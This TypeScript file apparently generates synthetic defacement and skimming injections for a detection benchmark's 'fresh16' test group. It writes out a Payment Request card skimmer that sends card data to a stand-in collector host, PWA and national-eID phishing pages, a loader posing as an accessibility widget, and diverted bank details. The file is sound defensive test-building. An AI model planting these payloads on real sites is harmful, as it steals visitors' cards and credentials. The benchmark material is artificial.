/**
 * Fresh16 defacement classes: written after round 15, by someone who does
 * not read the engines, from public descriptions of real defacements,
 * skimmers, phishing kits, SEO spam and scams. New techniques and
 * placements: a Content-Security-Policy meta tag that breaks the site's own
 * scripts, styles, images or forms (sabotage), a web app manifest from
 * another host whose start page is a sign-in elsewhere (PWA phishing), the
 * browser's native payment sheet opened for a "card verification" (Payment
 * Request API), rel="me" and fediverse:creator links that make an
 * impersonator's social account show the site as verified, the site's own
 * links rewritten to Android intent:// URLs with a fallback to another
 * host, a second "for payments from abroad" account at a fintech added
 * under the site's bank details, a "log in with your national eID" button
 * leading to a look-alike eID login, a loader disguised as an
 * accessibility-overlay snippet from a look-alike host, a script that opens
 * the phone's dialler on the first tap, an exit-intent pop-up with a prize
 * offer and a "leave page?" trap, and a "verify your download" block whose
 * checksum and key fingerprint match a build on another host; defacer
 * artefacts not used before (a free flag or hit counter of the crew, a
 * shoutbox embedded for greetings, falling flags or skulls over the page,
 * a custom cursor of the crew's logo); hacktivist presentations not used
 * before (an environmental indictment of the organisation, a DDoS
 * operation's scoreboard with check-host reports, a "free our jailed
 * comrade" demand, a pupil's fake school-closure notice); and scam and spam
 * verticals not used before (duty-free cigarettes, bitcoin mixers,
 * international marriage agencies, stem-cell clinics abroad, psychic
 * readings, insider recruitment for ransomware access, bulletproof hosting,
 * bulk SMS with spoofed sender names and OTP bots, CS2 skin gambling,
 * signal jammers, paper-mill authorship slots and rogue movers). Each
 * differs from every class in defacements.ts and fresh-defacements.ts
 * through fresh15-defacements.ts (not a re-wording of one) and varies its
 * templates, languages, domains, positions and sizes. The writer had no
 * internet access: every source below is recalled from memory, with its
 * outlet and an approximate date where known, and its comment says so.
 * Scored in the `fresh16` group, never tuned on.
 */
import { type ChangeClass, attrTargets, bottom, brandName, head, lineAfter, resolve, shown, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, someDate, swapPhone } from "./locales.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, slug, team } from "./words.js"

const fresh16 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh16", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `window.addEventListener("DOMContentLoaded",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "vip", "org", "cc", "store", "io", "app", "biz", "to"])
/** Where a script goes: the start or end of the head, top, middle or bottom of the body. */
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
/** Just after the head's open tag (the end of the head when the page has no head element). */
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
/** Near the top of the page, where a notice is read first, or anywhere. */
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
/** Where a spam block goes: the middle, the bottom, anywhere. */
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const someSpot = (rng: Rng, page: Page) => pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)])
/** A host a scam runs on: a themed name on a cheap TLD, a random domain, or a look-alike of the site. */
const host = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "direct", "club", "world", "now", "shop", "hub", "24"])}.${tld(rng)}`, () => `${pick(rng, words)}${digits(rng, 2)}.${tld(rng)}`, () => `${pick(rng, words)}${pick(rng, words)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
/** A collector endpoint for stolen data. */
const sink = (rng: Rng, page: Page) => `https://${pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["pr", "api/v1/card", "cb.php", "t", "ingest/" + alnum(rng, 4), "gate", "x"])}`
const intlMobile = (rng: Rng) =>
  pick(rng, [
    () => `+1 ${between(rng, 201, 989)} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+44 7${digits(rng, 3)} ${digits(rng, 6)}`, () => `+7 9${digits(rng, 2)} ${digits(rng, 3)}-${digits(rng, 2)}-${digits(rng, 2)}`,
    () => `+380 ${pick(rng, ["50", "67", "93", "99"])} ${digits(rng, 3)} ${digits(rng, 4)}`, () => `+52 1 ${digits(rng, 2)} ${digits(rng, 4)} ${digits(rng, 4)}`, () => `+66 8${digits(rng, 1)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    () => `+507 6${digits(rng, 3)}-${digits(rng, 4)}`, () => `+90 5${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 2)} ${digits(rng, 2)}`, () => `+63 9${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 4)}`
  ])()
const waLink = (n: string) => `https://wa.me/${n.replace(/\D/g, "")}`
const wa = (rng: Rng) => {
  const n = intlMobile(rng)
  return `WhatsApp <a href="${waLink(n)}">${esc(n)}</a>`
}
const handle = (rng: Rng, words: ReadonlyArray<string>) => `${pick(rng, words)}${pick(rng, ["_official", "_admin", "_sales", digits(rng, 2), "bot", "_vip", "_store", "_team"])}`
const tg = (rng: Rng, words: ReadonlyArray<string>) => {
  const h = handle(rng, words)
  return `Telegram <a href="https://t.me/${h}">@${h}</a>`
}
const contact = (rng: Rng, words: ReadonlyArray<string>) => pick(rng, [() => tg(rng, words), () => wa(rng), () => `${tg(rng, words)} · ${wa(rng)}`])()
/** A box around a notice or a spam block, in one of a few looks. */
const box = (rng: Rng, cls: ReadonlyArray<string>, accent: string, inner: string) =>
  `<div class="${pick(rng, cls)}" style="${pick(rng, [`border:2px solid ${accent};background:#fff;padding:14px 16px;margin:12px 0`, `border-top:5px solid ${accent};background:#fafafa;padding:12px 16px;margin:14px 0`, `border:1px dashed ${accent};border-radius:8px;background:#fffef8;padding:16px;margin:12px auto;max-width:760px`, `background:${accent};color:#fff;padding:14px 18px;margin:10px 0`, `box-shadow:0 1px 6px rgba(0,0,0,.2);padding:14px;margin:16px 0;background:#fff`])};font-family:${pick(rng, ["Arial,sans-serif", "Trebuchet MS,sans-serif", "Verdana,sans-serif", "Georgia,serif", "system-ui,sans-serif", "Segoe UI,sans-serif"])}">${inner}</div>`
const button = (rng: Rng, accent: string) => `background:${accent};color:#fff;border:0;padding:${pick(rng, ["8px 16px", "10px 22px", "7px 14px"])};border-radius:${pick(rng, ["0", "4px", "20px"])};cursor:pointer;text-decoration:none;display:inline-block`
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
const personName = (rng: Rng) => `${pick(rng, ["Mark", "Irina", "Oleg", "Diana", "Kevin", "Natalia", "Ahmed", "Lucia", "Robert", "Olga", "Tomás", "Agnieszka", "Victor", "Emma", "Yusuf", "Nina"])} ${pick(rng, ["Novak", "Petrov", "Lindqvist", "Moreno", "Kowalski", "Brooks", "Horvat", "Jansen", "Ferreira", "Schulz", "Leclerc", "Marin", "Ivanova", "Adeyemi"])}`
const lineOf = (rng: Rng, items: ReadonlyArray<string>, n: number) => sample(rng, items, n).map((s) => `<li>${esc(s)}</li>`).join("")
const rows = (cells: ReadonlyArray<ReadonlyArray<string>>) => cells.map((r) => `<tr>${r.map((c) => `<td>${c}</td>`).join("")}</tr>`).join("")
const currency = (page: Page) => ({ us: "USD", uk: "GBP", au: "AUD", in: "INR", br: "BRL" } as Record<string, string>)[page.site.locale.country] ?? "EUR"

// Policy sabotage, recalled from memory, with uncertain sources, of the Content-Security-Policy specification (CSP Level 2, W3C, about 2014–2016, which lets a meta http-equiv tag in the head set a policy) and of incident notes by hosting and clean-up firms (about 2018–2024) on sites left broken by an intruder or a departing administrator who changed templates rather than content: a policy written into the head, at its start or end, that blocks the site's own scripts, styles, images, frames or form posts, or allows only another host, so the page renders broken with nothing signed.
const cspSabotage = fresh16("Content-Security-Policy meta tag added to the head that blocks the site's own scripts, styles, images or form posts (sabotage)", (page, rng) => {
  const other = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const policy = pick(rng, [
    "default-src 'none'",
    "script-src 'none'; style-src 'none'",
    `default-src 'none'; img-src https://${other}; style-src 'unsafe-inline'`,
    "img-src 'none'; font-src 'none'; media-src 'none'",
    "form-action 'none'; connect-src 'none'",
    `default-src https://${other}; script-src https://${other} 'unsafe-inline'`,
    "script-src 'none'; frame-src 'none'; connect-src 'none'; form-action 'none'",
    "style-src 'none'; img-src data:"
  ])
  const tag = `<meta http-equiv="${pick(rng, ["Content-Security-Policy", "content-security-policy", "Content-Security-Policy"])}" content="${esc(policy)}">`
  return splices(insert(pick(rng, [headStart(page), headStart(page), head(page)]), tag))
})

const installWords: Table<(brand: string) => string> = {
  en: (b) => `Install the ${b} app`, fr: (b) => `Installer l'application ${b}`, de: (b) => `${b}-App installieren`, es: (b) => `Instala la app de ${b}`,
  nl: (b) => `Installeer de ${b}-app`, pt: (b) => `Instale o app ${b}`, it: (b) => `Installa l'app ${b}`
}

// PWA phishing, recalled from memory of ESET's research (about August 2024) on banking phishing in Czechia and Hungary delivered as progressive web apps and WebAPKs that install from the browser with no store warning, and of mrd0x's write-up (about June 2024) on PWA phishing that hides the address bar: on a compromised site, a web app manifest of another host (or written into a data: URL) named after the site, whose start_url opens a sign-in page elsewhere once the visitor installs the site or adds it to the home screen, with touch icons and sometimes an "install the app" button.
const manifestHijack = fresh16("web app manifest from another host or a data: URL, named after the site, whose start page is a sign-in elsewhere once the site is installed or added to the home screen", (page, rng) => {
  const h = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng), `${slug(page.site.brand)}-app.${tld(rng)}`, `app-${slug(page.site.brand)}.${tld(rng)}`])
  const start = `https://${h}/${pick(rng, ["login", "app/", "m/", "auth?src=pwa", "start", "signin/index.html"])}`
  const name = brandName(page)
  const manifest = {
    name,
    short_name: name.slice(0, 12),
    start_url: start,
    scope: `https://${h}/`,
    display: pick(rng, ["standalone", "fullscreen", "minimal-ui"]),
    background_color: "#ffffff",
    theme_color: pick(rng, ["#003366", "#c8102e", "#00703c", "#1a1a1a", "#5a287d"]),
    icons: [{ src: `https://${h}/icons/${pick(rng, ["192", "icon-192", "app", "logo"])}.png`, sizes: "192x192", type: "image/png" }]
  }
  const href = chance(rng, 0.35)
    ? `data:application/manifest+json,${encodeURIComponent(JSON.stringify(manifest))}`
    : `https://${h}/${pick(rng, ["manifest.json", "site.webmanifest", "app.webmanifest", "pwa/manifest.json"])}`
  const tags = [`<link rel="manifest" href="${esc(href)}"${chance(rng, 0.3) ? ` crossorigin="use-credentials"` : ""}>`]
  if (chance(rng, 0.6)) tags.push(`<link rel="apple-touch-icon" href="https://${h}/icons/apple-touch-icon.png">`)
  if (chance(rng, 0.4)) tags.push(`<meta name="apple-mobile-web-app-capable" content="yes"><meta name="apple-mobile-web-app-title" content="${esc(name)}">`)
  const out: Array<Splice> = [insert(pick(rng, [head(page), headStart(page)]), tags.join(pick(rng, ["", "\n"])))]
  if (chance(rng, 0.5)) {
    const id = `pwa${alnum(rng, 4)}`
    const label = some(rng, page, installWords)(name)
    out.push(insert(noticeSpot(rng, page), `<div class="${pick(rng, ["app-install", "pwa-banner", "get-app"])}" style="padding:10px;text-align:center"><button type="button" id="${id}" style="${button(rng, manifest.theme_color)}">📲 ${esc(label)}</button></div><script>(function(){var d,b=document.getElementById("${id}");window.addEventListener("beforeinstallprompt",function(e){e.preventDefault();d=e});b.onclick=function(){d?d.prompt():location.href=${js(start)}}})();</script>`))
  }
  return { splices: out }
})

const verifyCardWords: Table<readonly [string, string, string]> = {
  en: ["Confirm your payment card", "For your protection we need to confirm your card. You will not be charged.", "Confirm card"],
  fr: ["Confirmez votre carte", "Pour votre sécurité, nous devons confirmer votre carte. Aucun débit ne sera effectué.", "Confirmer la carte"],
  de: ["Zahlungskarte bestätigen", "Zu Ihrem Schutz müssen wir Ihre Karte bestätigen. Es wird nichts abgebucht.", "Karte bestätigen"],
  es: ["Confirma tu tarjeta", "Por tu seguridad necesitamos confirmar tu tarjeta. No se realizará ningún cargo.", "Confirmar tarjeta"],
  nl: ["Bevestig je betaalkaart", "Voor je veiligheid moeten we je kaart bevestigen. Er wordt niets afgeschreven.", "Kaart bevestigen"],
  pt: ["Confirme seu cartão", "Para sua segurança, precisamos confirmar seu cartão. Nada será cobrado.", "Confirmar cartão"],
  it: ["Conferma la tua carta", "Per la tua sicurezza dobbiamo confermare la carta. Non verrà addebitato nulla.", "Conferma carta"]
}

// Native payment sheets, recalled from memory, with uncertain details, of the W3C Payment Request API (shipped in Chrome about 2016), whose "basic-card" method made the browser itself ask for a card and hand the number, expiry and security code to the page's script until Chrome removed it (about 2021), and of researchers' notes that a sheet drawn by the browser looks trustworthy to visitors: a script that opens the browser's payment sheet for a "card verification" of zero or one unit, on the first click or from an injected "confirm card" notice, and sends what the sheet returns to another host.
const paymentRequestSheet = fresh16("browser's native payment sheet opened for a 'card verification' (Payment Request API, basic-card), its card details sent to another host", (page, rng) => {
  const to = sink(rng, page)
  const cur = currency(page)
  const label = pick(rng, [`${brandName(page)} card verification`, "Card check (no charge)", `${brandName(page)} – account confirmation`, "Verification hold"])
  const send = pick(rng, [
    `navigator.sendBeacon(${js(to)},JSON.stringify({d:p.details,n:p.payerName,e:p.payerEmail,h:location.host}))`,
    `fetch(${js(to)},{method:"POST",mode:"no-cors",body:btoa(JSON.stringify([p.details,p.payerName,p.payerEmail]))})`
  ])
  const open = `function q(){try{var r=new PaymentRequest([{supportedMethods:"basic-card",data:{supportedNetworks:["visa","mastercard","amex","discover"]}}],{total:{label:${js(label)},amount:{currency:"${cur}",value:"${pick(rng, ["0.00", "1.00", "0.01"])}"}}},{requestPayerName:true,requestPayerEmail:${pick(rng, ["true", "false"])}});r.show().then(function(p){${send};p.complete("${pick(rng, ["fail", "success", "unknown"])}")}).catch(function(){})}catch(e){}}`
  if (chance(rng, 0.5)) {
    const [h, p, cta] = some(rng, page, verifyCardWords)
    const id = `pr${alnum(rng, 5)}`
    const accent = pick(rng, ["#0b5cad", "#1a7f37", "#b3261e", "#333"])
    return splices(insert(noticeSpot(rng, page), box(rng, ["card-check", "account-notice", "verify"], accent, `<b>${esc(h)}</b><p>${esc(p)}</p><button type="button" id="${id}" style="${button(rng, accent)}">${esc(cta)}</button>`) + `<script>${open}document.getElementById("${id}").onclick=q;</script>`))
  }
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, `${open}document.addEventListener("click",function f(){document.removeEventListener("click",f,true);q()},true);`)))
})

const instances = ["mastodon.social", "mastodon.online", "mstdn.social", "mas.to", "infosec.exchange", "social.vivaldi.net", "mastodon.world", "techhub.social", "fosstodon.org", "universeodon.com"]

// Borrowed verification, recalled from memory of Mastodon's documentation of link verification (a profile link shows a green check when the linked page links back with rel="me", popular from about November 2022), of the fediverse:creator meta tag (Mastodon 4.3, about October 2024) that credits a page's author in link previews, and of warnings then about impersonators of brands, newsrooms and officials: rel="me" links and a fediverse:creator tag for an account that is not the site's (a support or "official" look-alike), in the head and sometimes as a visible link beside the site's own social links.
const relMeImpersonator = fresh16("rel=\"me\" links and a fediverse:creator tag for an impersonator's Mastodon account, so that account shows the site as verified", (page, rng) => {
  const b = page.site.brand.replace(/[^a-z0-9]/gi, "").slice(0, 18) || "site"
  const user = pick(rng, [`${b}_support`, `${b}official`, `${b}_help`, `${b}_hq`, `${b}${digits(rng, 2)}`, `real${b}`, `${b}_news`])
  const inst = pick(rng, instances)
  const url = `https://${inst}/@${user}`
  const tags: Array<string> = []
  if (chance(rng, 0.85)) tags.push(`<link rel="me" href="${url}">`)
  if (tags.length === 0 || chance(rng, 0.5)) tags.push(`<meta name="fediverse:creator" content="@${user}@${inst}">`)
  if (chance(rng, 0.3)) tags.push(`<link rel="me" href="https://${pick(rng, instances)}/@${user}">`)
  const out: Array<Splice> = [insert(head(page), tags.join(""))]
  if (chance(rng, 0.6)) {
    const a = `<a rel="me" href="${url}"${chance(rng, 0.4) ? ` style="display:none"` : ""}>Mastodon</a>`
    const line = lineAfter(page, page.site.words.follow)
    out.push(line !== null ? insert(line.at, line.wrap(a)) : insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom")]), `<p class="${pick(rng, ["social", "fedi", "follow"])}">${a}</p>`))
  }
  return { splices: out }
})

// Intent links, recalled from memory, with uncertain sources, of Chrome's "Android Intents with Chrome" documentation (intent:// URLs with a package and an S.browser_fallback_url, about 2014 on) and of malvertising and redirect-chain analyses (about 2017–2023) that used such URLs to push mobile visitors into an app store listing or, when the app is absent, silently on to another host: some of the site's own links rewritten to intent:// URLs whose fallback is another host (desktop browsers ignore them; phones leave the site).
const intentLinks = fresh16("site's own links rewritten to Android intent:// URLs whose browser fallback is another host", (page, rng) => {
  const self = new URL(page.site.url).hostname
  const own = shown(page, "a", (e) => {
    const h = e.attribs.href
    if (h === undefined || h.trim() === "" || h.trim().startsWith("#")) return false
    const u = resolve(page, h)
    return u !== null && u.hostname === self
  })
  const other = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])
  const pkg = `${pick(rng, ["com", "net", "app", "io"])}.${pick(rng, ["fast", "smart", "media", "news", "secure", "mobile", "best"])}${alnum(rng, 3)}.${pick(rng, ["app", "android", "browser", "reader", "client"])}`
  const intent = (path: string) => {
    const fallback = `https://${other}/${pick(rng, ["m", "go", "apk", "r"])}/${alnum(rng, 6)}`
    return pick(rng, [
      () => `intent://${other}${path}#Intent;scheme=https;package=${pkg};S.browser_fallback_url=${encodeURIComponent(fallback)};end`,
      () => `intent://${other}${path}#Intent;scheme=https;action=android.intent.action.VIEW;S.browser_fallback_url=${encodeURIComponent(fallback)};end`,
      () => `intent:#Intent;package=${pkg};S.market_referrer=${alnum(rng, 10)};S.browser_fallback_url=${encodeURIComponent(fallback)};end`
    ])()
  }
  const targets = attrTargets(page, sample(rng, own, between(rng, 1, Math.max(1, Math.min(10, own.length)))), "href")
  if (targets.length === 0) {
    const label = some(rng, page, { en: "Open in app", fr: "Ouvrir dans l'appli", de: "In der App öffnen", es: "Abrir en la app", nl: "Openen in de app", pt: "Abrir no app", it: "Apri nell'app" })
    return splices(insert(noticeSpot(rng, page), `<p class="open-app"><a href="${esc(intent("/"))}">${esc(label)}</a></p>`))
  }
  return {
    splices: targets.map(({ el, value }) => {
      const u = resolve(page, el.attribs.href ?? "/")
      return replace(value, esc(intent(u === null ? "/" : u.pathname + u.search)))
    })
  }
})

const abroadWords: Table<(cur: string, bank: string, holder: string, account: string, bic: string) => string> = {
  en: (c, b, h, a, i) => `Paying in ${c} from abroad? Please use our ${b} account: ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  fr: (c, b, h, a, i) => `Paiement en ${c} depuis l'étranger : utilisez notre compte ${b} – titulaire ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  de: (c, b, h, a, i) => `Zahlungen in ${c} aus dem Ausland bitte auf unser ${b}-Konto: Inhaber ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  es: (c, b, h, a, i) => `¿Paga en ${c} desde el extranjero? Use nuestra cuenta ${b}: titular ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  nl: (c, b, h, a, i) => `Betalen in ${c} vanuit het buitenland? Gebruik onze ${b}-rekening: t.n.v. ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  pt: (c, b, h, a, i) => `Pagamentos em ${c} do exterior: use nossa conta ${b} – titular ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`,
  it: (c, b, h, a, i) => `Pagamenti in ${c} dall'estero: usate il nostro conto ${b} – intestatario ${h}, ${a}${i === "" ? "" : `, BIC ${i}`}.`
}

// Second accounts at fintechs, recalled from memory, with uncertain details, of UK Finance, Europol and national-bank warnings (about 2019–2024) that payment-diversion fraud increasingly routes money to accounts at e-money institutions and app banks opened with stolen or mule identities (IBANs with Lithuanian, Belgian or virtual-account prefixes), and of invoice-fraud cases where the real details stayed and a "for foreign payments" account was added: a line under the site's own bank details naming an account at Wise, Revolut, bunq or N26 for payments in another currency, held by a person or a look-alike company.
const abroadAccount = fresh16("'paying from abroad? use our Wise / Revolut account' line with another holder and IBAN added under the site's bank details", (page, rng) => {
  const [bank, account, bic] = pick(rng, [
    () => ["Wise", `IBAN ${groupIban(iban("BE", "967" + digits(rng, 9)))}`, "TRWIBEB1XXX"] as const,
    () => ["Revolut Business", `IBAN ${groupIban(iban("LT", "32500" + digits(rng, 11)))}`, "REVOLT21"] as const,
    () => ["Revolut", `IBAN ${groupIban(iban("GB", "REVO" + "0099" + digits(rng, 2) + digits(rng, 8)))}`, "REVOGB21"] as const,
    () => ["bunq", `IBAN ${groupIban(iban("NL", "BUNQ" + "20" + digits(rng, 8)))}`, "BUNQNL2A"] as const,
    () => ["N26", `IBAN ${groupIban(iban("DE", "10011001" + digits(rng, 10)))}`, "NTSBDEB1XXX"] as const,
    () => ["Wise (USD)", `ACH routing 026073150, account ${digits(rng, 10)}`, ""] as const
  ])()
  const holder = pick(rng, [personName(rng), `${brandName(page)} ${pick(rng, ["Intl", "Global Ltd", "Services LLC", "Trading", "EU"])}`, `${upper(rng, 2)} ${pick(rng, ["Consulting", "Holding", "Payments"])} ${pick(rng, ["Ltd", "UAB", "GmbH", "BV"])}`])
  const cur = pick(rng, ["EUR", "USD", "GBP", "CHF"].filter((c) => c !== currency(page)))
  const text = esc(some(rng, page, abroadWords)(cur, bank, holder, account, bic))
  const line = lineAfter(page, page.ids.bank?.value ?? "") ?? lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl)
  if (line !== null) return splices(insert(line.at, line.wrap(text)))
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom")]), `<p class="${pick(rng, ["payment-info", "bank-abroad", "note"])}">${text}</p>`))
})

const eidSchemes: Record<string, ReadonlyArray<readonly [string, string]>> = {
  nl: [["DigiD", "#e17000"]], fr: [["FranceConnect", "#000091"]], it: [["SPID", "#0066cc"], ["CIE ID", "#0066cc"]], es: [["Cl@ve", "#c8102e"]], de: [["BundID", "#000"], ["ELSTER", "#004b87"]],
  uk: [["GOV.UK One Login", "#1d70b8"]], us: [["Login.gov", "#112e51"], ["ID.me", "#08833d"]], au: [["myGov", "#313131"], ["myID", "#00698f"]], in: [["DigiLocker", "#2b3990"]], br: [["gov.br", "#1351b4"]]
}
const eidWords: Table<(scheme: string, brand: string, date: string) => readonly [string, string, string, string, string]> = {
  en: (s, b, d) => ["Identity check required", `From ${d}, access to ${b} services needs a verified identity. Sign in once with ${s} to keep your account active.`, `Sign in with ${s}`, "Username", "Password"],
  fr: (s, b, d) => ["Vérification d'identité requise", `À partir du ${d}, l'accès aux services de ${b} nécessite une identité vérifiée. Connectez-vous une fois avec ${s} pour conserver votre compte.`, `S'identifier avec ${s}`, "Identifiant", "Mot de passe"],
  de: (s, b, d) => ["Identitätsprüfung erforderlich", `Ab dem ${d} ist für die Dienste von ${b} eine bestätigte Identität nötig. Melden Sie sich einmal mit ${s} an, damit Ihr Konto aktiv bleibt.`, `Mit ${s} anmelden`, "Benutzername", "Passwort"],
  es: (s, b, d) => ["Verificación de identidad obligatoria", `Desde el ${d}, el acceso a los servicios de ${b} requiere una identidad verificada. Identifícate una vez con ${s} para mantener tu cuenta.`, `Acceder con ${s}`, "Usuario", "Contraseña"],
  nl: (s, b, d) => ["Identiteitscontrole verplicht", `Vanaf ${d} heeft u voor de diensten van ${b} een geverifieerde identiteit nodig. Log één keer in met ${s} om uw account actief te houden.`, `Inloggen met ${s}`, "Gebruikersnaam", "Wachtwoord"],
  pt: (s, b, d) => ["Verificação de identidade obrigatória", `A partir de ${d}, o acesso aos serviços de ${b} exige identidade verificada. Entre uma vez com ${s} para manter sua conta ativa.`, `Entrar com ${s}`, "CPF", "Senha"],
  it: (s, b, d) => ["Verifica dell'identità obbligatoria", `Dal ${d} l'accesso ai servizi di ${b} richiede un'identità verificata. Accedi una volta con ${s} per mantenere attivo il tuo account.`, `Entra con ${s}`, "Nome utente", "Password"]
}

// National eID phishing, recalled from memory of warnings by Logius on DigiD phishing (about 2019–2024), of CERT-AGID's weekly reports on SPID credential phishing (about 2021–2024), of French alerts on fake FranceConnect pages, of Services Australia's warnings on myGov look-alikes and of the US government's on Login.gov and ID.me look-alikes: a notice in the organisation's name requiring a one-time sign-in with the country's eID scheme, whose button or inline form goes to a look-alike eID host.
const fakeEidLogin = fresh16("'sign in with your national eID (DigiD, FranceConnect, SPID, Login.gov, myGov) to keep your account' notice leading to a look-alike eID login", (page, rng) => {
  const [scheme, accent] = pick(rng, eidSchemes[page.site.locale.country] ?? eidSchemes.uk!)
  const [h, p, cta, user, pass] = some(rng, page, eidWords)(scheme, brandName(page), page.site.locale.date(someDate(rng)))
  const s = slug(scheme.replace("@", "a")) || "eid"
  const other = pick(rng, [`${s}-${pick(rng, ["login", "verify", "secure", "auth", "portal"])}.${tld(rng)}`, `${pick(rng, ["mijn", "my", "login", "acces", "auth"])}-${s}${digits(rng, 2)}.${tld(rng)}`, `${s}.${pick(rng, ["gov-", "gouv-", "gob-", "gov"])}${pick(rng, ["id", "login", "auth"])}.${tld(rng)}`])
  const action = `https://${other}/${pick(rng, ["login", "authorize", "sso/start", "auth/" + alnum(rng, 6)])}`
  const body = chance(rng, 0.6)
    ? `<p><a href="${action}?client=${slug(page.site.brand)}" style="${button(rng, accent)}">🔐 ${esc(cta)}</a></p>`
    : `<form action="${action}" method="post"><input name="u" placeholder="${esc(user)}" style="display:block;margin:4px 0;padding:6px;width:90%;max-width:320px"><input type="password" name="p" placeholder="${esc(pass)}" style="display:block;margin:4px 0;padding:6px;width:90%;max-width:320px"><button type="submit" style="${button(rng, accent)}">${esc(cta)}</button></form>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["id-check", "notice", "account-alert"], accent, `<h3 style="margin:0 0 6px">${esc(h)}</h3><p>${esc(p)}</p>${body}`)))
})

// Overlay look-alikes, recalled from memory, with uncertain sources, of web-skimming reports (Sansec, Jscrambler and Malwarebytes, about 2019–2024) describing loaders named and shaped like trusted third-party snippets so a glance at the source passes them, and of the UserWay, accessiBe and EqualWeb accessibility overlays whose one-line snippets sit on many small-business sites: an accessibility-widget snippet, in one of their usual shapes, loading from a look-alike host, sometimes with a visible accessibility button.
const fakeA11yWidget = fresh16("loader disguised as an accessibility-overlay snippet (UserWay, accessiBe, EqualWeb) from a look-alike host", (page, rng) => {
  const h = `${pick(rng, ["cdn.", "", "static.", "app."])}${pick(rng, ["userway-org", "userwey", "userway-cdn", "acsbap", "acsbapp-cdn", "accessibe-app", "equalweb-cdn", "a11y-widget", "access-widget", "userwaycdn"])}.${tld(rng)}`
  const snippet = pick(rng, [
    () => `<script src="https://${h}/widget.js" data-account="${alnum(rng, 10)}"${chance(rng, 0.5) ? " async" : ""}></script>`,
    () => `<script>(function(){var s=document.createElement("script"),e=!document.body?document.querySelector("head"):document.body;s.src="https://${h}/apps/app/dist/js/app.js";s.async=true;s.onload=function(){try{acsbJS.init({statementLink:"",footerHtml:"",hideMobile:false,hideTrigger:false,language:"${page.site.locale.lang}",position:"${pick(rng, ["right", "left"])}",leadColor:"#146FF8",triggerColor:"#146FF8",triggerRadius:"50%",triggerPositionX:"right",triggerPositionY:"bottom",triggerIcon:"people",triggerSize:"medium",triggerOffsetX:20,triggerOffsetY:20})}catch(x){}};e.appendChild(s)}());</script>`,
    () => `<script>window.interdeal={sitekey:"${hex(rng, 32)}",Position:"${pick(rng, ["Right", "Left"])}",Menulang:"${page.site.locale.lang.toUpperCase()}",domains:{js:"https://${h}/",acc:"https://${h}/"},btnStyle:{vPosition:["80%",null],scale:["0.8","0.8"],icon:{type:7,shape:"semicircle"}}};(function(doc,head,body){var coreCall=doc.createElement("script");coreCall.src=interdeal.domains.js+"core/${between(rng, 4, 5)}.${between(rng, 0, 9)}.${between(rng, 0, 9)}/accessibility.js";coreCall.defer=true;coreCall.setAttribute("data-cfasync",true);body?body.appendChild(coreCall):head.appendChild(coreCall)})(document,document.head,document.body);</script>`
  ])()
  const out: Array<Splice> = [insert(pick(rng, [head(page), bottom(page), top(page)]), snippet)]
  if (chance(rng, 0.4)) out.push(insert(bottom(page), `<button type="button" aria-label="${esc(some(rng, page, { en: "Accessibility", fr: "Accessibilité", de: "Barrierefreiheit", es: "Accesibilidad", nl: "Toegankelijkheid", pt: "Acessibilidade", it: "Accessibilità" }))}" style="position:fixed;${pick(rng, ["right", "left"])}:16px;bottom:16px;width:48px;height:48px;border-radius:50%;background:#146FF8;color:#fff;border:0;font-size:24px;z-index:99999">♿</button>`))
  return { splices: out }
})

const callWords: Table<readonly [string, string]> = {
  en: ["Customer support", "Call us now, we are available 24/7"], fr: ["Service client", "Appelez-nous, disponible 24h/24"], de: ["Kundenservice", "Jetzt anrufen – rund um die Uhr erreichbar"],
